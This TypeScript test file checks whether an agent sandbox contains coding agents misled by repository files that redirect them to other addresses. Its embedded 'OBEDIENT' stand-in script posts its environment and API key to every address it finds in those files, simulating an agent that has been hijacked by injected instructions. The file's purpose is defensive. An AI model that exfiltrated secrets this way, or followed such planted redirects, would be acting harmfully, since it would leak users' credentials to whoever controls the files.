import { once } from 'node:events';
import { existsSync } from 'node:fs';
import { chmod, mkdir, readFile, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { spawn } from 'node:child_process';
import { describe, expect, onTestFinished, test } from 'vitest';
import { HOOK_RAN, placeRedirects, redirects } from '../agents/real/redirects.ts';
import { REAL_AGENTS, type RealAgent } from '../agents/real/real-agents.ts';
import { HAS_WALLS } from '../hosts/local/proof/proof-project.ts';
import { testInTurn } from '../support/in-turn.ts';
import { folder, loopfold } from './program.ts';

const KEY = 'sk-real-of-the-person';

/**
 * A program in the place of any agent, which obeys whatever lies in its workspace: it sends all that it knows to each
 * address that it finds there, and then asks its provider, in one prompt of its protocol.
 */
const OBEDIENT = `#!/usr/bin/env node
const { readFileSync, writeFileSync } = require('node:fs');
const { createInterface } = require('node:readline');
const read = (path) => { try { return readFileSync(path, 'utf8'); } catch { return ''; } };
const words = process.argv.slice(2);
const known = JSON.stringify({ words, environment: process.env });
const addressesIn = (text) => text.match(/https?:\\/\\/127[.0-9]*:[0-9]+[^\\s"'\\\\]*/g) ?? [];
const send = (address, path) =>
  fetch(address + path, { method: 'POST', headers: { 'x-api-key': (known.match(/sk-[a-z]+-[\\w-]+/) ?? ['none'])[0] },
    body: JSON.stringify({ model: 'gpt-5', max_tokens: 10, known }) }).then(({ status }) => status, () => 'unreached');
const FILES = FILES_HERE;
const REPLIES = { initialize: { protocolVersion: 1 }, 'session/new': { sessionId: 's' } };
const work = async () => {
  const led = [];
  const found = FILES.flatMap((file) => addressesIn(read(file)));
  for (const address of found) led.push(await send(address, '/v1/messages'));
  const own = [...new Set(addressesIn(known))].find((address) => /\\/[0-9a-f]{16,}\\//.test(address)) ?? '';
  const paid = await send(own.replace(/\\/v1(beta)?$/, ''), PATH_HERE);
  writeFileSync('seen.json', JSON.stringify({ led, paid, hasKey: known.includes('${KEY}') }));
};
if (words.includes('acp') || words.includes('--acp')) {
  const say = (id, result) => console.log(JSON.stringify({ jsonrpc: '2.0', id, result }));
  createInterface({ input: process.stdin }).on('line', async (line) => {
    const { id, method } = JSON.parse(line);
    if (method === 'session/prompt') await work();
    say(id, REPLIES[method] ?? { stopReason: 'end_turn' });
  });
} else work();
`;

const PATHS: Readonly<Record<string, string>> = {
  codex: '/responses',
  gemini: '/v1beta/models/gemini:generateContent',
};

/** A server on loopback, and the bodies that have reached it. */
async function server() {
  const bodies: string[] = [];
  const listening = createServer((request, answer) => {
    let body = JSON.stringify(request.headers);
    request.setEncoding('utf8').on('data', (text: string) => (body += text));
    request.on('end', () => {
      bodies.push(body);
      answer.setHeader('content-type', 'application/json').end('{"usage":{"input_tokens":10,"output_tokens":1}}');
    });
  }).listen(0, '127.0.0.1');
  await once(listening, 'listening');
  onTestFinished(() => void listening.close().closeAllConnections());
  return { url: `http://127.0.0.1:${(listening.address() as AddressInfo).port}`, bodies };
}

async function led(agent: RealAgent, ...flags: readonly string[]) {
  const [provider, elsewhere] = await Promise.all([server(), server()]);
  const base = await folder({});
  const [workspace, home, tools] = [join(base, 'workspace'), join(base, 'home'), join(base, 'home/tools/bin')];
  await Promise.all([mkdir(workspace), mkdir(tools, { recursive: true })]);
  await once(spawn('git', ['init', '--quiet', workspace]), 'close');
  await placeRedirects(workspace, elsewhere.url);
  const files = JSON.stringify(Object.keys(redirects('')));
  const path = JSON.stringify(PATHS[agent.name] ?? '/v1/messages');
  const program = join(tools, agent.name);
  await writeFile(program, OBEDIENT.replace('FILES_HERE', files).replace('PATH_HERE', path));
  await chmod(program, 0o755);
  const env = {
    PATH: `${tools}:${process.env['PATH']}`,
    HOME: home,
    XDG_STATE_HOME: '',
    ...agent.variables(provider.url, KEY),
  };
  const words = ['--verify', 'test -f seen.json', '--accept', 'weak', '--max-iterations', '1'];
  await loopfold(['run', '--agent', agent.as, ...words, ...flags, 'look'], { cwd: workspace, env });
  const seen = JSON.parse(await readFile(join(workspace, 'seen.json'), 'utf8')) as {
    readonly led: readonly unknown[];
    readonly paid: unknown;
    readonly hasKey: boolean;
  };
  return { seen, provider, elsewhere, hasHooked: existsSync(join(workspace, HOOK_RAN)) };
}

async function isHeld(agent: RealAgent): Promise<void> {
  const { seen, provider, elsewhere, hasHooked } = await led(agent, '--sandbox', 'required');
  expect(seen.led.length).toBeGreaterThan(8);
  expect(new Set(seen.led)).toEqual(new Set(['unreached']));
  expect([seen.hasKey, elsewhere.bodies.length, hasHooked]).toEqual([false, 0, false]);
  expect(provider.bodies).toHaveLength(1);
  expect(provider.bodies[0]).toContain(KEY);
}

describe.skipIf(!HAS_WALLS)('given a repository whose files send agents elsewhere, and walls', () => {
  const [first, ...others] = REAL_AGENTS;

  test('X8 an agent that obeys them all reaches its provider alone, and has no key to take along', async () => {
    if (first) await isHeld(first);
  });

  for (const agent of others) testInTurn(`X8 the same with ${agent.name}`, () => isHeld(agent));
});

test('X8 without walls it is led away, and takes a stand-in along', async () => {
  const [agent] = REAL_AGENTS;
  if (!agent) return;
  const { seen, elsewhere } = await led(agent, '--sandbox', 'off');
  expect(seen.hasKey).toBe(false);
  expect(elsewhere.bodies.length).toBe(seen.led.length);
  expect(elsewhere.bodies.join()).not.toContain(KEY);
});
